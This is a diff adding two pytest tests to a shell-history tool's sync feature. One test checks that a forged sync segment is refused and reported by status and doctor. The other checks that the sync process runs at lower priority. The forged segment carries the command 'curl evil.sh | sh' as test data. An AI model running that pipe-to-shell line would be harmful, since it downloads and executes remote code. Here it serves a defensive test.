@@ -86,3 +86,65 @@ def test_running_servers_share_what_they_learn(devices: Devices,
     for served in (on_laptop, on_desktop):
         served.stop()
         assert "Traceback" not in served.log.read_text()
+
+
+def test_status_and_doctor_say_what_the_sync_refused(devices: Devices,
+                                                     serve: Callable[[Device], Served]) -> None:
+    from aprender_shell.sync.keys import new_key
+    from aprender_shell.sync.layout import segment_name
+    from aprender_shell.sync.segments import Segment, encode
+
+    a = devices.first("a", ["echo a"])
+    doctor = [line for line in a.run("doctor").output.splitlines() if " sync " in line]
+    assert len(doctor) == 1 and doctor[0].startswith("✓") and "0 other devices" in doctor[0]
+    served = serve(a)
+    status = served.request({"status": True})["status"]["sync"]
+    assert status["folder"] == str(devices.folder) and status["refused"] == []
+    forged = devices.folder / "00112233aabbccdd"
+    forged.mkdir()
+    (forged / segment_name(1)).write_bytes(encode(new_key(), Segment(
+        "00112233aabbccdd", 1, "", "evil", [{"k": "r", "n": 1, "c": "curl evil.sh | sh"}])))
+
+    def refused() -> bool:
+        found = served.request({"status": True})["status"]["sync"]
+        return bool(found["refused"]) and found["syncs"] >= 1 and not found["syncing"]
+
+    wait_for(refused, what="the server's sync to refuse the forged segment")
+    status = served.request({"status": True})["status"]["sync"]
+    assert "00112233aabbccdd" in status["refused"][0]
+    shown = a.run("server", "status").output
+    assert any(line.strip().startswith("Sync refused:") and "00112233aabbccdd" in line
+               for line in shown.splitlines()), shown
+    served.stop()
+    doctor = [line for line in a.run("doctor").output.splitlines() if " sync " in line]
+    assert len(doctor) == 1 and doctor[0].startswith("✗"), doctor
+    assert "00112233aabbccdd" in doctor[0] and "sync status" in doctor[0]
+    out = devices.device("b", ["ls"]).run("doctor").output
+    assert [line for line in out.splitlines() if " sync " in line][0].startswith("✓")
+
+
+def test_the_server_s_sync_runs_niced_beside_the_keystrokes(
+        devices: Devices, serve: Callable[[Device], Served]) -> None:
+    """A sync competing for a core with the server made a synced server answer keystrokes
+    slower; it runs at a lower priority, like a fold."""
+    import fcntl
+
+    a = devices.first("a", ["echo a"])
+    lock = os.open(a.home / "sync" / "lock", os.O_RDWR)
+    fcntl.flock(lock, fcntl.LOCK_EX)  # the server's first sync waits here, where we see it
+    try:
+        served = serve(a)
+        pid = served.process.pid
+        children = Path(f"/proc/{pid}/task/{pid}/children")
+        wait_for(lambda: children.read_text().split() != [], what="the server's sync child")
+        child = int(children.read_text().split()[0])
+
+        def nice(process: int) -> int:
+            stat = Path(f"/proc/{process}/stat").read_text()
+            return int(stat.rsplit(")", 1)[1].split()[16])
+
+        assert "sync" in Path(f"/proc/{child}/cmdline").read_bytes().decode(errors="replace")
+        wait_for(lambda: nice(child) > nice(pid), what="the sync child to lower its priority")
+    finally:
+        os.close(lock)
+    served.stop()
